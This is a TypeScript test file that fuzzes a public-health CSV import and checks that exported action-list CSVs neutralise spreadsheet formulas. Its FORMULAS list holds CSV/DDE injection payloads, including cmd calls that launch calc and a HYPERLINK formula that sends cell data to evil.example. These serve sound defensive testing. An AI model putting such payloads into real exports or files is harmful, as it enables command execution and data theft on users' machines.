// Item 3: fuzzed variants of the real Fingertips file (mutated bytes, cut short, wrong encodings,
// huge fields, extra columns, formulas in names) → each imports or is rejected with file:line, and a
// rejected import leaves the library byte-identical. Also: action-list CSVs we write neutralise
// spreadsheet formulas.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { actionListCsv, buildActionList } from '../../electron/services/export/actionList';
import { importToPath } from '../../electron/services/library/importFiles';
import { openLibrary } from '../../electron/services/library/openLibrary';
import { listRegister } from '../../electron/services/recommendations/register';
import { setStatus } from '../../electron/services/recommendations/status';
import { AppError } from '../../shared/api/errors';
import { sha256 } from '../helpers/files';
import { seededProject } from '../helpers/seedProject';
import { useTempDir } from '../helpers/tmp';
import { count, reportFigure, timeoutFor } from './figures';
import { pick, prng } from './prng';

const REAL = join(__dirname, '..', 'fixtures', 'fingertips', 'campylobacter-93356-county-ua-2015-17.csv');
const VARIANTS = count(150, 1000);

export const FORMULAS = ['=cmd|\' /C calc\'!A0', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '\t=1+1', '\r=1+1', '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'];

type Mutation = (buf: Buffer, rand: () => number) => Buffer;

function lineStarts(buf: Buffer): number[] {
  const out = [0];
  for (let i = 0; i < buf.length; i++) if (buf[i] === 0x0a) out.push(i + 1);
  return out;
}

/** Replaces the text of one field ("Indicator Name" or "Area Name") on random lines. */
function replaceName(text: string, value: string, rand: () => number): string {
  const lines = text.split('\n');
  for (let i = 1; i < lines.length; i++) {
    if (rand() < 0.2) lines[i] = lines[i]!.replace(/,Leicester,|,"Campylobacter[^"]*"/, (m) => (m.startsWith(',"') ? `,"${value.replace(/"/g, '""')}"` : `,"${value.replace(/"/g, '""')}",`));
  }
  return lines.join('\n');
}

export const mutations: Record<string, Mutation> = {
  'flip bytes': (b, r) => {
    const c = Buffer.from(b);
    const n = 1 + Math.floor(r() * 20);
    for (let i = 0; i < n; i++) c[Math.floor(r() * c.length)] = Math.floor(r() * 256);
    return c;
  },
  'cut short': (b, r) => b.subarray(0, Math.floor(r() * b.length)),
  'cut mid-line': (b, r) => {
    const starts = lineStarts(b);
    const at = pick(starts, r);
    return b.subarray(0, Math.min(b.length, at + 1 + Math.floor(r() * 40)));
  },
  'UTF-16LE': (b, r) => Buffer.concat([r() < 0.5 ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), iconv.encode(b.toString('utf8'), 'utf16le')]),
  'UTF-16BE': (b) => Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(b.toString('utf8'), 'utf16be')]),
  'Windows-1252 accents': (b, r) => iconv.encode(replaceName(b.toString('utf8'), 'Bédford – “Borough”', r), 'win1252'),
  'invalid UTF-8': (b, r) => {
    const c = Buffer.from(b);
    for (let i = 0; i < 5; i++) c[Math.floor(r() * c.length)] = pick([0xc3, 0xff, 0xfe, 0x80, 0xed], r);
    return c;
  },
  'huge field': (b, r) => Buffer.from(replaceName(b.toString('utf8'), 'x'.repeat(Math.floor(r() * 3_000_000) + 100_000), () => (r() < 0.02 ? 0 : 1))),
  'extra columns': (b, r) => Buffer.from(b.toString('utf8').split('\n').map((l, i) => (l && (i === 0 || r() < 0.3) ? `${l.replace(/\r$/, '')},extra${i},"more, here"` : l)).join('\n')),
  'missing columns': (b, r) => Buffer.from(b.toString('utf8').split('\n').map((l) => (r() < 0.1 ? l.split(',').slice(0, 10).join(',') : l)).join('\n')),
  'formula in names': (b, r) => Buffer.from(replaceName(b.toString('utf8'), pick(FORMULAS, r), r)),
  'NUL bytes': (b, r) => {
    const c = Buffer.from(b);
    for (let i = 0; i < 10; i++) c[Math.floor(r() * c.length)] = 0;
    return c;
  },
  'unbalanced quote': (b, r) => {
    const s = b.toString('utf8');
    const at = Math.floor(r() * s.length);
    return Buffer.from(`${s.slice(0, at)}"${s.slice(at)}`);
  },
  'header only': (b) => b.subarray(0, b.indexOf(0x0a) + 1),
  'empty file': () => Buffer.alloc(0),
  'header renamed': (b, r) => {
    const s = b.toString('utf8');
    const nl = s.indexOf('\n');
    const cols = s.slice(0, nl).split(',');
    cols[Math.floor(r() * cols.length)] = pick(['Value', 'Indicator ID', '', 'Äreä Cöde', '=1+1'], r);
    return Buffer.from(cols.join(',') + s.slice(nl));
  },
  'bad numbers': (b, r) => Buffer.from(b.toString('utf8').replace(/,(\d+\.\d+),/g, (m) => (r() < 0.05 ? `,${pick(['1e999', 'NaN', '-', '1,2', '0x1F', '∞'], r)},` : m))),
  'shuffled lines': (b, r) => {
    const lines = b.toString('utf8').split('\n');
    for (let i = 0; i < 10; i++) {
      const a = Math.floor(r() * lines.length);
      const c = Math.floor(r() * lines.length);
      [lines[a], lines[c]] = [lines[c]!, lines[a]!];
    }
    return Buffer.from(lines.join('\n'));
  },
  'mixed line endings': (b, r) => Buffer.from(b.toString('utf8').replace(/\r?\n/g, () => pick(['\n', '\r\n', '\r'], r))),
};

describe('hostile CSV', () => {
  const tmp = useTempDir();

  it(`${VARIANTS} fuzzed Fingertips files: imported, or rejected with file:line and the library byte-identical`, async () => {
    const dir = tmp();
    const library = join(dir, 'library.jsnalib');
    await importToPath(library, [REAL]);
    const real = readFileSync(REAL);
    const seed = Math.floor(Math.random() * 2 ** 31);
    const rand = prng(seed);
    const names = Object.keys(mutations);
    let imported = 0;
    let rejected = 0;
    let changedOnRejection = 0;
    const problems: string[] = [];
    const kinds = new Map<string, number>();
    for (let i = 0; i < VARIANTS; i++) {
      const applied = [pick(names, rand)];
      if (rand() < 0.3) applied.push(pick(names, rand));
      let buf: Buffer = real;
      for (const m of applied) buf = mutations[m]!(buf, rand);
      for (const m of applied) kinds.set(m, (kinds.get(m) ?? 0) + 1);
      const file = join(dir, `variant-${i}.csv`);
      writeFileSync(file, buf);
      const before = sha256(library);
      try {
        const summary = await importToPath(library, [file]);
        imported++;
        if (!(summary.rows >= 0)) problems.push(`${basename(file)} [${applied.join(' + ')}]: odd summary ${JSON.stringify(summary).slice(0, 200)}`);
      } catch (e) {
        rejected++;
        const after = sha256(library);
        if (after !== before || existsSync(`${library}-journal`)) {
          changedOnRejection++;
          problems.push(`${basename(file)} [${applied.join(' + ')}]: library changed on rejection`);
        }
        const msg = (e as Error).message;
        if (!(e instanceof AppError)) problems.push(`${basename(file)} [${applied.join(' + ')}]: crashed: ${(e as Error).stack?.slice(0, 300)}`);
        else if (!msg.includes(`${file}:`) || !/:\d+: /.test(msg)) {
          // Rejections that are not about a line (an empty file, an unknown encoding) must still name the file.
          if (!msg.includes(file)) problems.push(`${basename(file)} [${applied.join(' + ')}]: message does not name the file: ${msg.slice(0, 200)}`);
        }
      }
    }
    const lib = openLibrary(library, { readOnly: true });
    const ok = lib.db.pragma('integrity_check', { simple: true });
    lib.close();
    if (ok !== 'ok') problems.push(`library integrity_check: ${String(ok)}`);
    reportFigure('hostile CSV', {
      tried: VARIANTS,
      failed: problems.length,
      lost: changedOnRejection,
      note: `${imported} imported, ${rejected} rejected, seed ${seed}`,
    });
    expect(problems).toEqual([]);
  }, timeoutFor(VARIANTS, 400));

  it('action-list CSVs neutralise formulas (= + - @, tab, CR) in every cell people wrote', () => {
    const s = seededProject(tmp());
    const rows = listRegister(s.project).rows;
    FORMULAS.forEach((f, i) => {
      setStatus(s.project, { id: rows[i]!.id, status: 'In progress', rag: 'Amber', dueDate: null, lead: f, note: f }, { author: f });
    });
    const csv = actionListCsv(buildActionList(s.project, {}));
    s.project.close();
    const records = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const risky = records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    reportFigure('action-list CSV formula injection', { tried: FORMULAS.length * 3, failed: risky.length, lost: 0 });
    expect(risky).toEqual([]);
    expect(records.flat().filter((c) => c.startsWith("'=") || c.startsWith("'@") || c.startsWith("'+"))).not.toHaveLength(0);
  });
});
